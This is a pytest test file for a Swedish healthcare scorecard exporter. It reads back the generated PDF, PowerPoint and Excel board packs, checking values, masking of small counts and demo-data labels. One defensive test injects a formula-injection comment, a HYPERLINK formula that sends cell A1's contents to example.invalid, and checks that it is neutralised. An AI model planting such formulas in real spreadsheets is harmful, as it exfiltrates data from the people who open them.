"""The board pack as the board gets it: the PDF report, the PowerPoint deck, the Excel workbook
and ``python -m kpi export``.

The pack for Division Nära, DÅ08 2022 is built once per module. The PDF is read back with
poppler (``pdftotext -layout`` for the words, ``pdftoppm`` for the pages, copied to
``build/screenshots/board_pack_page_N.png`` for people to look at), the deck with python-pptx and
the workbook with openpyxl, so every check is on the file as written, not on what the code meant
to write.
"""

from __future__ import annotations

import dataclasses
import io
import re
import shutil
import subprocess
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pptx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kpi.cli import run
from kpi.evaluation.scorecard import Dataset, Evaluation, evaluate_dataset, load_dataset
from kpi.model.catalogue import PERSPECTIVES
from kpi.model.formatting import format_number
from kpi.model.verdicts import MET, NOT_ASSESSED, NOT_MET, PARTLY
from kpi.model.view import View
from kpi.reports.excel import COLUMNS, HEADER_ROW
from kpi.reports.files import render_board_pack
from kpi.reports.narrative import Analysis
from kpi.reports.pack import BoardPack, build_board_pack, slide_plan
from kpi.reports.powerpoint import ROWS_PER_SLIDE
from kpi.reports.safety import neutralise
from kpi.texts.legend import ATTAINMENT

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOTS = ROOT / "build" / "screenshots"
PERIOD = "2022-DÅ08"
CREATED = datetime(2026, 11, 22, 10, 0)
FORMULA_STARTS = ("=", "+", "-", "\u2212", "@", "\t", "\r")
HAS_POPPLER = shutil.which("pdftotext") is not None and shutil.which("pdftoppm") is not None
# Not a skip: a machine without poppler-utils would otherwise pass without ever reading the PDF.
needs_poppler = pytest.mark.usefixtures("poppler")


@pytest.fixture(scope="session")
def poppler() -> None:
    if not HAS_POPPLER:
        pytest.fail("pdftotext och pdftoppm saknas: installera Debians paket poppler-utils (se .ci/run).")


def plain(text: str) -> str:
    """The code puts no-break spaces between number and unit; poppler may give them either way."""
    return text.replace("\u00a0", " ")


@dataclass(frozen=True)
class ReadPdf:
    text: str  # pdftotext -layout, no-break spaces as spaces
    pages: list[str]  # the same, one string per page
    pngs: list[Path]  # pdftoppm -r 40, in page order


def read_pdf(content: bytes, folder: Path, *, images: bool = True) -> ReadPdf:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "pack.pdf"
    path.write_bytes(content)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True, timeout=120
    ).stdout
    pngs: list[Path] = []
    if images:
        subprocess.run(["pdftoppm", "-r", "40", "-png", str(path), str(folder / "page")], check=True, timeout=120)
        pngs = sorted(folder.glob("page-*.png"), key=lambda p: int(p.stem.rsplit("-", 1)[1]))
    text = plain(text)
    pages = text.split("\f")
    if pages and not pages[-1].strip():
        pages = pages[:-1]
    return ReadPdf(text, pages, pngs)


def heading_lines(text: str) -> list[str]:
    """Lines that hold nothing but a perspective's name: the section headings."""
    return [line.strip() for line in text.splitlines() if line.strip() in PERSPECTIVES]


# --- fixtures --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def data() -> tuple[Dataset, Evaluation]:
    dataset = load_dataset()
    return dataset, evaluate_dataset(dataset)


@pytest.fixture(scope="module")
def pack(data: tuple[Dataset, Evaluation]) -> BoardPack:
    dataset, evaluation = data
    return build_board_pack(dataset, evaluation, View.parse("div_nara", PERIOD), created=CREATED)


@pytest.fixture(scope="module")
def pdf(pack: BoardPack, tmp_path_factory: pytest.TempPathFactory) -> ReadPdf:
    if not HAS_POPPLER:
        pytest.fail("pdftotext och pdftoppm saknas: installera Debians paket poppler-utils (se .ci/run).")
    content = render_board_pack(pack, "pdf")
    assert content.startswith(b"%PDF")
    read = read_pdf(content, tmp_path_factory.mktemp("pdf"))
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    for n in (1, 2, 5):
        if n <= len(read.pngs):
            shutil.copyfile(read.pngs[n - 1], SCREENSHOTS / f"board_pack_page_{n}.png")
    return read


@pytest.fixture(scope="module")
def deck(pack: BoardPack) -> Any:
    return pptx.Presentation(io.BytesIO(render_board_pack(pack, "pptx")))


@pytest.fixture(scope="module")
def book(pack: BoardPack) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(render_board_pack(pack, "xlsx")))


@pytest.fixture(scope="module")
def masked(data: tuple[Dataset, Evaluation]) -> tuple[BoardPack, str, float]:
    """A health centre whose total for DÅ08 2022 is masked (too few), its pack, the measure and
    the number the store holds behind the mask."""
    dataset, evaluation = data
    centres = dataset.units.filter(pl.col("unit_type") == "hälsocentral")["unit_id"].to_list()
    found = (
        evaluation.wide.filter((pl.col("period") == PERIOD) & pl.col("masked") & pl.col("unit_id").is_in(centres))
        .sort("unit_id", "measure_id")
        .select("unit_id", "measure_id")
    )
    assert found.height, "the bundled data should hold a masked health-centre value for DÅ08 2022"
    unit_id, measure_id = found.row(0)
    raw = dataset.observations.filter(
        (pl.col("unit_id") == unit_id)
        & (pl.col("measure_id") == measure_id)
        & (pl.col("period") == PERIOD)
        & (pl.col("sex") == "T")
    )["value"].to_list()
    assert raw and raw[0] is not None, "the masked value should come from a stored figure"
    return build_board_pack(dataset, evaluation, View.parse(unit_id, PERIOD), created=CREATED), measure_id, raw[0]


def entry_of(pack: BoardPack, measure_id: str) -> Any:
    return next(m for m in pack.measures if m.measure_id == measure_id)


# --- PDF -------------------------------------------------------------------------------------


@needs_poppler
def test_pdf_page_count_matches_its_page_numbers(pdf: ReadPdf) -> None:
    totals = {int(m) for m in re.findall(r"Sida \d+ av (\d+)", pdf.text)}
    assert len(totals) == 1, totals
    total = totals.pop()
    assert total > 5
    assert len(pdf.pngs) == total == len(pdf.pages)
    for number, page in enumerate(pdf.pages, start=1):
        assert f"Sida {number} av {total}" in page
    assert all(p.read_bytes().startswith(b"\x89PNG") for p in pdf.pngs)


@needs_poppler
def test_pdf_cover_has_title_period_and_the_perspectives_at_a_glance(pdf: ReadPdf, pack: BoardPack) -> None:
    cover = pdf.pages[0]
    for text in ("Styrkort – Division Nära", "Uppföljning DÅ08 2022 (jan–aug)", "Perspektiven i korthet", "2026-11-22 10:00"):
        assert text in cover, text
    for section in pack.sections:
        assert re.search(
            rf"^{section.perspective}\s+{re.escape(section.strategic_goal)}\s+{len(section.measures)}\s", cover, re.MULTILINE
        )
    assert "Längst från målet" in cover


@needs_poppler
def test_pdf_has_every_perspective_heading_in_report_order(pdf: ReadPdf) -> None:
    assert heading_lines(pdf.text) == list(PERSPECTIVES)
    # Each perspective opens a page of its own, right under the running head.
    for name in PERSPECTIVES:
        page = next(p for p in pdf.pages if name in heading_lines(p))
        lines = [line.strip() for line in page.splitlines() if line.strip()]
        assert lines[0].startswith("Styrkort · Division Nära · DÅ08 2022")
        assert lines[1] == name


@needs_poppler
@pytest.mark.parametrize(
    "published",
    [
        "92 % (K 92 %, M 92 %)",  # medical assessment within 3 days, as the seed prints it
        "1 641 (K 1 179, M 462)",  # asked about violence, with the sexes
        "29 191",  # triage in Digitalen: a space between thousands
        "70,0 %",  # children finished in one dental visit: decimal comma
        "81 %",  # telephone access the same day
        "\u221231 mnkr",  # the budget deviation with the typographic minus
    ],
)
def test_pdf_shows_values_as_published(pdf: ReadPdf, published: str) -> None:
    assert published in pdf.text


@needs_poppler
def test_pdf_writes_negative_amounts_with_the_typographic_minus_only(pdf: ReadPdf) -> None:
    assert "\u221231 mnkr" in pdf.text
    # No hyphen-minus before an amount (the target text "+/-0 mnkr" is the catalogue's own wording).
    assert not re.search(r"(?<![/\w])-\d[\d ,]* mnkr", pdf.text)


@needs_poppler
def test_pdf_shows_verdicts_by_symbol_and_word(pdf: ReadPdf) -> None:
    for badge in ("✗ ej uppfyllt", "✓ uppfyllt", "– ej bedömd", "↘ försämrad", "↗ förbättrad", "· jämförelse"):
        assert badge in pdf.text, badge
    measures_page = next(p for p in pdf.pages if "Medborgare" in heading_lines(p))
    phone_line = next(line for line in measures_page.splitlines() if "Telefon-TeleQ" in line)
    assert "81 %" in phone_line and "✗ ej uppfyllt" in phone_line and "↘ försämrad" in phone_line


@needs_poppler
def test_pdf_every_page_has_page_number_running_head_and_source(pdf: ReadPdf) -> None:
    source = "Källa: Division Nära, bilaga till delårsrapport per augusti 2022"
    assert re.search(r"Sida 1 av \d+", pdf.pages[0])
    for number, page in enumerate(pdf.pages, start=1):
        assert source in page, number
        if number > 1:
            assert "Styrkort · Division Nära · DÅ08 2022" in page, number


@needs_poppler
def test_pdf_labels_demo_data(pdf: ReadPdf, pack: BoardPack) -> None:
    assert pack.has_demo
    assert "Demodata – rapporten innehåller värden som är genererade" in pdf.pages[0]
    assert "Demodata (öppen ring)" in pdf.text  # the chart legend for demo points
    assert "Värden märkta demodata är" in pdf.pages[-1]  # the source line


@needs_poppler
def test_pdf_shows_the_generated_analysis(pdf: ReadPdf, pack: BoardPack) -> None:
    phone = entry_of(pack, "med_telefon_samma_dag")
    assert "Målet 95 procent är ej uppfyllt" in plain(phone.analysis.generated)
    assert "Målet 95 procent är ej uppfyllt" in " ".join(pdf.text.split())  # wherever the line breaks
    assert "Automatisk text:" in pdf.text  # beside the analyst's own comment


@needs_poppler
def test_pdf_screenshots_are_saved(pdf: ReadPdf) -> None:
    for n in (1, 2, 5):
        shot = SCREENSHOTS / f"board_pack_page_{n}.png"
        assert shot.read_bytes() == pdf.pngs[n - 1].read_bytes()


@needs_poppler
def test_pdf_of_one_perspective_holds_only_that_perspective(data: tuple[Dataset, Evaluation], tmp_path: Path) -> None:
    dataset, evaluation = data
    one = build_board_pack(dataset, evaluation, View.parse("div_nara", PERIOD), perspective="Ekonomi", created=CREATED)
    assert [s.perspective for s in one.sections] == ["Ekonomi"]
    assert set(one.card["perspective"].to_list()) == {"Ekonomi"}
    read = read_pdf(render_board_pack(one, "pdf"), tmp_path, images=False)
    assert heading_lines(read.text) == ["Ekonomi"]
    assert "\u221231 mnkr" in read.text
    for other in ("Samhälle", "Medborgare", "Medarbetare", "Telefon-TeleQ"):
        assert other not in read.text, other


@needs_poppler
def test_pdf_of_a_unit_with_too_few_shows_skyddat_and_never_the_number(
    masked: tuple[BoardPack, str, float], tmp_path: Path
) -> None:
    unit_pack, measure_id, raw = masked
    entry = entry_of(unit_pack, measure_id)
    assert entry.row["masked"] and entry.row["value"] is None
    if entry.chart is not None and entry.chart.highlight is not None:  # the period's point is a gap, not 0
        assert all(line.values[entry.chart.highlight] is None for line in entry.chart.lines if not line.dashed)
    assert entry.table["Periodens utfall"].startswith("skyddat (för få)")
    assert not re.search(r"\d", entry.table["Periodens utfall"] + entry.analysis.text)
    read = read_pdf(render_board_pack(unit_pack, "pdf"), tmp_path, images=False)
    # The report's table: the measure's row says skyddat in the outcome column.
    assert any(entry.name[:25] in line and "skyddat (för få)" in line for line in read.text.splitlines())
    # The measure's own block: the outcome and the generated text say so; the stored number is not the outcome.
    assert "Utfall: skyddat (för få)" in read.text
    assert "Värdet är skyddat" in read.text
    shown = format_number(raw, 0)
    assert not re.search(rf"Utfall: {re.escape(shown)}(?![\d,])", read.text)


@needs_poppler
def test_pdf_cover_with_its_legend_fits_on_the_first_page(pdf: ReadPdf) -> None:
    assert "Så läses tabellerna" in pdf.pages[0]


# --- PowerPoint ------------------------------------------------------------------------------


def texts(slide: Any) -> list[str]:
    return [plain(s.text_frame.text) for s in slide.shapes if s.has_text_frame and s.text_frame.text.strip()]


def title(slide: Any) -> str:
    return texts(slide)[0]


def test_pptx_has_the_planned_slides(deck: Any, pack: BoardPack) -> None:
    plan = slide_plan(pack.card, rows_per_slide=ROWS_PER_SLIDE)
    assert len(deck.slides) == len(plan)
    assert [p.kind for p in plan].count("measure") == len(pack.missing_target)


def test_pptx_title_slide_names_the_pack_and_the_five_perspectives(deck: Any, pack: BoardPack) -> None:
    first = texts(deck.slides[0])
    assert "Styrkort – Division Nära" in first
    assert "Uppföljning DÅ08 2022 (jan–aug)" in first
    tiles = {t.splitlines()[0]: t for t in first if t.splitlines()[0] in PERSPECTIVES}
    assert list(tiles) == list(PERSPECTIVES)
    for section in pack.sections:
        tile = tiles[section.perspective]
        assert section.strategic_goal in tile
        for state in (MET, PARTLY, NOT_MET, NOT_ASSESSED):
            badge = ATTAINMENT[state]
            assert f"{badge.symbol} {section.counts[state]} {badge.word}" in tile
        assert f"{len(section.measures)} styrmått" in tile


def test_pptx_perspective_slides_are_titled_with_their_parts(deck: Any, pack: BoardPack) -> None:
    plan = slide_plan(pack.card, rows_per_slide=ROWS_PER_SLIDE)
    expected = [p.title + (f" ({p.part}/{p.parts})" if p.parts > 1 else "") for p in plan if p.kind == "perspective"]
    found = [title(s) for s, p in zip(deck.slides, plan) if p.kind == "perspective"]
    assert found == expected
    assert "Medborgare (1/3)" in found and "Ekonomi" in found
    assert {t.split(" (")[0] for t in found} == set(PERSPECTIVES)
    # Every measure of the perspective is in one of its tables, once.
    for name in PERSPECTIVES:
        rows = []
        for slide, p in zip(deck.slides, plan):
            if p.kind == "perspective" and p.perspective == name:
                table = next(s.table for s in slide.shapes if s.has_table)
                rows += [table.cell(r, 0).text for r in range(1, len(table.rows))]
        assert rows == [m.name for s in pack.sections if s.perspective == name for m in s.measures]


def test_pptx_perspective_table_shows_values_as_published(deck: Any) -> None:
    cells = [
        [plain(table.cell(r, c).text) for c in range(len(table.columns))]
        for slide in deck.slides
        for table in (s.table for s in slide.shapes if s.has_table)
        for r in range(1, len(table.rows))
    ]
    assessment = next(row for row in cells if row[0].startswith("Andel medicinsk bedömning"))
    assert assessment[2] == "92 % (K 92 %, M 92 %)" and assessment[3] == "✗ ej uppfyllt"
    budget = next(row for row in cells if row[0].startswith("Alla divisioner"))
    assert budget[2] == "\u221231 mnkr"


def test_pptx_one_chart_slide_per_measure_missing_its_target(deck: Any, pack: BoardPack) -> None:
    measure_slides = [s for s in deck.slides if any(sh.has_chart for sh in s.shapes)]
    missing = pack.missing_target
    assert missing and [title(s) for s in measure_slides] == [m.name for m in missing]
    for slide, entry in zip(measure_slides, missing):
        charts = [sh.chart for sh in slide.shapes if sh.has_chart]
        assert len(charts) == 1
        plot = charts[0].plots[0]
        assert list(plot.categories) == entry.chart.categories
        assert all(re.fullmatch(r"DÅ08 20\d\d", c) for c in plot.categories)
        first = plot.series[0]
        expected = entry.chart.lines[0].values
        assert first.name == entry.chart.lines[0].name
        got = list(first.values)
        assert [v is None for v in got] == [v is None for v in expected]  # gaps stay gaps, never 0
        assert [v for v in got if v is not None] == pytest.approx([v for v in expected if v is not None])
        assert plain(texts(slide)[2]).startswith(f"Periodens utfall\n{plain(entry.table['Periodens utfall'])}")


def test_pptx_gaps_in_a_chart_are_read_back_as_none(deck: Any, pack: BoardPack) -> None:
    # The palliative measure gives women and men but no total in 2022: the total line has a gap there.
    entry = entry_of(pack, "ver_palliativ_strategi")
    assert entry.chart.lines[0].values[-1] is None
    slide = next(s for s in deck.slides if texts(s) and title(s) == entry.name)
    series = next(sh.chart for sh in slide.shapes if sh.has_chart).plots[0].series
    assert list(series[0].values)[-1] is None
    assert {s.name for s in series} >= {"Kvinnor", "Män"}


def test_pptx_every_slide_is_numbered(deck: Any) -> None:
    total = len(deck.slides)
    for number, slide in enumerate(deck.slides, start=1):
        assert f"{number} / {total}" in texts(slide)
        assert any(t.startswith("Styrkort · Division Nära · DÅ08 2022") for t in texts(slide))


def test_pptx_slides_with_demo_data_say_so(deck: Any, pack: BoardPack) -> None:
    plan = slide_plan(pack.card, rows_per_slide=ROWS_PER_SLIDE)
    entries = {m.measure_id: m for m in pack.measures}
    said = ["Demodata visas" in texts(s) for s in deck.slides]
    assert said[0] == pack.has_demo is True
    for slide_said, p in zip(said, plan):
        if p.kind == "measure":
            assert slide_said == entries[p.measure_ids[0]].shows_demo, p.title
        elif p.kind == "perspective":
            assert slide_said == any(entries[m].row["is_demo"] and entries[m].has_value for m in p.measure_ids), p.title
    assert any(said[1:])


def test_pptx_chart_with_decimals_keeps_them(masked: tuple[BoardPack, str, float]) -> None:
    unit_pack = masked[0]
    entry = next(m for m in unit_pack.missing_target if m.chart is not None and m.chart.unit != "%" and m.chart.decimals > 0)
    deck = pptx.Presentation(io.BytesIO(render_board_pack(unit_pack, "pptx")))
    slide = next(s for s in deck.slides if texts(s) and title(s) == entry.name)
    chart = next(sh.chart for sh in slide.shapes if sh.has_chart)
    code = chart.value_axis.tick_labels.number_format
    assert re.search(r"0\.0", code), code


# --- Excel -----------------------------------------------------------------------------------


HEADINGS = [name for name, _, _ in COLUMNS]
VALUE_COLUMNS = [name for name, _, kind in COLUMNS if kind in ("value", "int")]


def table_rows(sheet: Any) -> list[dict[str, Any]]:
    """The scorecard sheet's rows as {heading: cell}."""
    header = [c.value for c in sheet[HEADER_ROW + 1]]
    return [dict(zip(header, row)) for row in sheet.iter_rows(min_row=HEADER_ROW + 2) if row[0].value is not None]


def row_for(rows: list[dict[str, Any]], measure: str) -> dict[str, Any]:
    return next(r for r in rows if r["Styrmått"].value == measure)


def test_xlsx_sheets_and_header(book: openpyxl.Workbook, pack: BoardPack) -> None:
    assert book.sheetnames == ["Styrkort", "Åtgärder", "Om filen"]
    sheet = book["Styrkort"]
    assert [c.value for c in sheet[HEADER_ROW + 1]] == HEADINGS
    assert sheet["A1"].value == "Styrkort – Division Nära"
    assert sheet["A2"].value == "Uppföljning DÅ08 2022 (jan–aug)"
    assert sheet["A4"].value.startswith("Demodata")
    rows = table_rows(sheet)
    assert [r["Styrmått"].value for r in rows] == [m.name for m in pack.measures]
    assert book["Om filen"]["A1"].value == pack.title
    actions = list(book["Åtgärder"].iter_rows(min_row=2, values_only=True))
    assert len(actions) == sum(s.actions.height for s in pack.sections) > 0


def test_xlsx_values_are_numbers_with_their_unit_as_format(book: openpyxl.Workbook, pack: BoardPack) -> None:
    rows = table_rows(book["Styrkort"])
    budget = row_for(rows, entry_of(pack, "eko_budgetavvikelse").name)
    assert budget["Utfall"].value == -31 and isinstance(budget["Utfall"].value, (int, float))
    assert budget["Utfall"].data_type == "n"
    assert "mnkr" in budget["Utfall"].number_format
    triage = row_for(rows, entry_of(pack, "med_triage_digitalen").name)
    assert triage["Utfall"].value == 29191
    assessment = row_for(rows, entry_of(pack, "med_bedomning_3_dagar").name)
    assert (assessment["Utfall"].value, assessment["Kvinnor"].value, assessment["Män"].value) == (92, 92, 92)
    assert "%" in assessment["Utfall"].number_format
    assert plain(assessment["Periodens utfall"].value) == "92 % (K 92 %, M 92 %)"
    for row in rows:
        for name in VALUE_COLUMNS:
            assert row[name].value is None or isinstance(row[name].value, (int, float)), (row["Styrmått"].value, name)


def test_xlsx_missing_value_is_an_empty_cell_never_zero(book: openpyxl.Workbook, pack: BoardPack) -> None:
    rows = table_rows(book["Styrkort"])
    without = [m for m in pack.measures if not m.has_value]
    assert without
    for entry in without:
        row = row_for(rows, entry.name)
        assert (row["Utfall"].value, row["Kvinnor"].value, row["Män"].value) == (None, None, None), entry.name
        assert row["Periodens utfall"].value in ("uppgift saknas", "rapporteras inte av enheten")
        assert row["Skyddat (för få)"].value == "Nej"


def test_xlsx_masked_rows_are_empty_and_marked(masked: tuple[BoardPack, str, float]) -> None:
    unit_pack, measure_id, _ = masked
    rows = table_rows(openpyxl.load_workbook(io.BytesIO(render_board_pack(unit_pack, "xlsx")))["Styrkort"])
    row = row_for(rows, entry_of(unit_pack, measure_id).name)
    assert (row["Utfall"].value, row["Kvinnor"].value, row["Män"].value, row["Jämförelsevärde"].value) == (None,) * 4
    assert row["Skyddat (för få)"].value == "Ja"
    assert row["Periodens utfall"].value.startswith("skyddat (för få)")
    # Every row with a masked cell says so, and the masked cells are empty.
    for entry in unit_pack.measures:
        r, shown = entry.row, row_for(rows, entry.name)
        flagged = bool(r["masked"] or r["masked_women"] or r["masked_men"])
        assert shown["Skyddat (för få)"].value == ("Ja" if flagged else "Nej"), entry.name
        for column, key in (("Utfall", "masked"), ("Kvinnor", "masked_women"), ("Män", "masked_men")):
            if r[key] or r["masked"]:
                assert shown[column].value is None, (entry.name, column)


def analysis_pack(pack: BoardPack, text: str) -> BoardPack:
    """The same pack with the analyst's comment (and author) replaced on every measure."""
    sections = [
        dataclasses.replace(
            s,
            measures=[
                dataclasses.replace(m, analysis=Analysis(generated=m.analysis.generated, own=text, author=text))
                for m in s.measures
            ],
        )
        for s in pack.sections
    ]
    return dataclasses.replace(pack, sections=sections)


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["eq", "plus", "hyphen", "minus", "at", "tab", "cr"])
def test_xlsx_neutralises_a_comment_that_starts_like_a_formula(pack: BoardPack, start: str) -> None:
    text = f'{start}HYPERLINK("http://example.invalid/?q="&A1,"Klicka")'
    risky = analysis_pack(pack, text)
    book = openpyxl.load_workbook(io.BytesIO(render_board_pack(risky, "xlsx")))
    rows = table_rows(book["Styrkort"])
    assert len(rows) == len(pack.measures)
    for row in rows:
        assert row["Analys"].value.startswith("'"), row["Analys"].value
        # A carriage return is stored escaped (_x000D_), as Excel itself writes it.
        assert row["Analys"].value.replace("_x000D_", "\r") == "'" + text
        assert row["Analysen skriven av"].value.replace("_x000D_", "\r") == "'" + text
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_xlsx_of_the_pack_has_no_formulas(book: openpyxl.Workbook) -> None:
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert cells and all(cell.data_type in ("s", "n") for cell in cells)


def test_xlsx_outcome_text_reads_as_in_the_pdf(book: openpyxl.Workbook, pack: BoardPack) -> None:
    budget = row_for(table_rows(book["Styrkort"]), entry_of(pack, "eko_budgetavvikelse").name)
    assert plain(budget["Periodens utfall"].value) == "\u221231 mnkr"


# --- a masked base year ----------------------------------------------------------------------


def test_a_target_derived_from_a_masked_base_year_is_not_drawn(data: tuple[Dataset, Evaluation]) -> None:
    dataset, evaluation = data
    wide = evaluation.wide
    base = wide.select("measure_id", "unit_id", pl.col("period").alias("base_period"), pl.col("masked").alias("_base_masked"))
    candidates = (
        wide.filter((pl.col("period") == PERIOD) & (pl.col("target_kind") == "relative_change"))
        .join(base, on=["measure_id", "unit_id", "base_period"], how="inner")
        .filter(pl.col("_base_masked"))
        .sort("unit_id", "measure_id")
        .select("unit_id", "measure_id")
        .rows()
    )
    drawn = []
    for unit_id, measure_id in candidates:
        entry = entry_of(build_board_pack(dataset, evaluation, View.parse(unit_id, PERIOD), created=CREATED), measure_id)
        if entry.chart is not None:
            drawn.append((unit_id, [v for line in entry.chart.lines if line.dashed for v in line.values if v is not None]))
    assert drawn, "the bundled data should hold a unit whose base year is masked"
    assert all(targets == [] for _, targets in drawn), drawn


# --- command line ----------------------------------------------------------------------------

MAGIC = {"pdf": b"%PDF", "pptx": b"PK\x03\x04", "xlsx": b"PK\x03\x04"}


@pytest.mark.parametrize("fmt", ["pdf", "pptx", "xlsx"])
def test_cli_export_writes_the_file(fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / f"styrkort.{fmt}"
    assert run(["export", "--period", PERIOD, "--format", fmt, "--out", str(out)]) == 0
    assert out.read_bytes().startswith(MAGIC[fmt])
    said = capsys.readouterr().out
    assert said.startswith("Skrev ") and "Division Nära" in said and "demodata" in said


def test_cli_export_of_one_perspective_ignores_case(tmp_path: Path) -> None:
    out = tmp_path / "ekonomi.xlsx"
    assert run(["export", "--period", "2022-T2", "--format", "xlsx", "--out", str(out), "--perspective", " ekonomi"]) == 0
    rows = table_rows(openpyxl.load_workbook(out)["Styrkort"])
    assert rows and {r["Perspektiv"].value for r in rows} == {"Ekonomi"}


def test_cli_export_unknown_perspective_is_refused_in_swedish(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "x.pdf"
    code = run(["export", "--period", PERIOD, "--format", "pdf", "--out", str(out), "--perspective", "Kultur"])
    assert code == 2
    err = capsys.readouterr().err
    assert "perspektivet 'Kultur' finns inte" in err and "Ekonomi" in err
    assert not out.exists()


def test_cli_export_to_a_missing_directory_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "finns_inte" / "styrkort.pdf"
    assert run(["export", "--period", PERIOD, "--format", "pdf", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("Fel: ") and "mappen finns inte" in err
    assert not out.parent.exists()


# --- neutralise ------------------------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(["=", "+", "-", "\u2212", "@", "\t", "\r", "'", "a", "1", " ", "ö", "\u00a0"])) | st.text()
)
def test_neutralise_never_leaves_a_formula_start(text: str) -> None:
    safe = neutralise(text)
    assert safe.startswith("'") or not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)  # nothing else changes
    assert neutralise(safe) == safe  # applying it twice changes nothing more


# --- after review ----------------------------------------------------------------------------


def test_xlsx_keeps_the_catalogues_target_text_as_text_without_an_apostrophe(book: openpyxl.Workbook, pack: BoardPack) -> None:
    budget = row_for(table_rows(book["Styrkort"]), entry_of(pack, "eko_budgetavvikelse").name)
    assert budget["Mål"].value == "+/-0 mnkr"
    assert budget["Mål"].quotePrefix  # Excel's own protection: never read as a formula when edited


def test_xlsx_labels_the_units_demo_values_and_rounds_as_printed(book: openpyxl.Workbook, pack: BoardPack) -> None:
    digital = row_for(table_rows(book["Styrkort"]), entry_of(pack, "med_digitala_vardbesok").name)
    assert digital["Demodata"].value == "Nej"  # the division's 14 % is published …
    assert digital["Enheternas värden demodata"].value == "Ja"  # … its health centres' values are not
    assert digital["Lägst bland enheterna"].value == 8 and digital["Högst bland enheterna"].value == 20


def test_a_pack_for_women_leaves_the_totals_unit_spread_out(data: tuple[Dataset, Evaluation]) -> None:
    dataset, evaluation = data
    women = build_board_pack(dataset, evaluation, View.parse("div_nara", PERIOD, "K"), created=CREATED)
    rows = table_rows(openpyxl.load_workbook(io.BytesIO(render_board_pack(women, "xlsx")))["Styrkort"])
    violence = row_for(rows, entry_of(women, "med_fraga_vald").name)
    assert violence["Utfall"].value == 1179
    assert [violence[c].value for c in ("Lägst bland enheterna", "Högst bland enheterna", "Enheter som når målet")] == [
        None,
        None,
        None,
    ]


def test_pptx_notes_hold_the_whole_comment_and_the_generated_text(deck: Any, pack: BoardPack) -> None:
    own = [m for m in pack.missing_target if m.analysis.is_own]
    assert own
    notes = {title(s): s.notes_slide.notes_text_frame.text for s in deck.slides if s.has_notes_slide and texts(s)}
    for entry in own:
        assert str(entry.analysis.own) in notes[entry.name]
        assert "Automatisk text: " + entry.analysis.generated in notes[entry.name]


def test_export_refuses_a_period_without_data(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "x.pdf"
    assert run(["export", "--period", "2030-DÅ08", "--format", "pdf", "--out", str(out)]) == 2
    assert "det finns inga data för DÅ08 2030" in capsys.readouterr().err
    assert not out.exists()
